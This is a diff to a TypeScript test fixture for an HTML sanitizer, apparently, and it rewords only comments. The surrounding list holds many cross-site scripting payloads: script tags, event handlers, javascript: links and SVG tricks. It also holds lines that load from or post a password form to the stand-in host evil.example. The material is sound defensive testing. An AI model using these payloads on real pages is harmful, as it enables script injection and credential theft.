@@ -1,8 +1,8 @@
 import { FAMILIES } from './hostileFamilies.ts'
 
 /*
- * Texts that try to run a script, to load or send something, or to change the page around them. Each tells of its success by
- * calling `hit()`. `trespasses` says what of it is left that a harmless text may not have.
+ * Texts that try to run a script, to load or send something, or to change the page around them. Each reports success by
+ * calling `hit()`. `trespasses` returns what is left of a text that harmless texts may not contain.
  */
 
 export const HOSTILE: readonly string[] = [
@@ -18,7 +18,7 @@ export const HOSTILE: readonly string[] = [
   '</textarea></title></style></noscript><script>hit()</script>',
   '<p>Hello<script>hit()</script></p>',
   '<script>hit()',
-  // Handlers of events.
+  // Event handlers.
   '<img src=x onerror=hit()>',
   '<img src=x onerror="hit()"//><p',
   '<img/src=x/onerror=hit()>',
@@ -37,7 +37,7 @@ export const HOSTILE: readonly string[] = [
   '<input autofocus onfocus=hit()>',
   '<select autofocus onfocus=hit()><option>1</option></select>',
   '<marquee onstart=hit()>Run</marquee>',
-  // Addresses that run.
+  // Addresses that run a script.
   '<a href="javascript:hit()">Press</a>',
   '<a href="JaVaScRiPt:hit()">Press</a>',
   '<a href="java\nscript:hit()">Press</a>',
@@ -60,7 +60,7 @@ export const HOSTILE: readonly string[] = [
   '<area href="javascript:hit()">',
   '<base href="javascript:hit()//">',
   '<button formaction="javascript:hit()">Press</button>',
-  // SVG and MathML, and what changes when it is read twice.
+  // SVG and MathML, and markup that changes when it is parsed twice.
   '<svg onload=hit()>',
   '<svg><script>hit()</script></svg>',
   '<svg><a xlink:href="javascript:hit()"><text y=20>Press</text></a></svg>',
@@ -85,7 +85,7 @@ export const HOSTILE: readonly string[] = [
   '<p style="position:fixed;inset:0;background:url(https://evil.example)">Over all</p>',
   '<link rel="stylesheet" href="https://evil.example/a.css">',
   '<p class="fui-Button" id="root" name="body" slot="x" is="x-y" part="z">Dressed up</p>',
-  // Forms, frames and what stands in for the page.
+  // Forms, frames, and elements that imitate or replace the page.
   '<form action="https://evil.example"><input name="password" type="password"><button>Sign In</button></form>',
   '<textarea name="draft">Yours</textarea>',
   '<iframe src="javascript:hit()"></iframe>',
@@ -117,8 +117,8 @@ export const HOSTILE: readonly string[] = [
 ]
 
 /**
- * What stands below an element that may not stand there: elements and attributes beyond the few that are harmless, and links
- * that lead elsewhere than to the web or a mail. Takes nothing from outside: it also runs in a page of the browser.
+ * Elements and attributes in a container that are not among the few harmless ones, and links that lead to anything other than the web or a mail
+ * address. Uses nothing from outside the function, as it also runs in a page of the browser.
  */
 export const trespasses = (root: ParentNode): string[] => {
   const tags = ['a', 'b', 'br', 'code', 'em', 'i', 'li', 'ol', 'p', 'pre', 's', 'strong', 'u', 'ul']
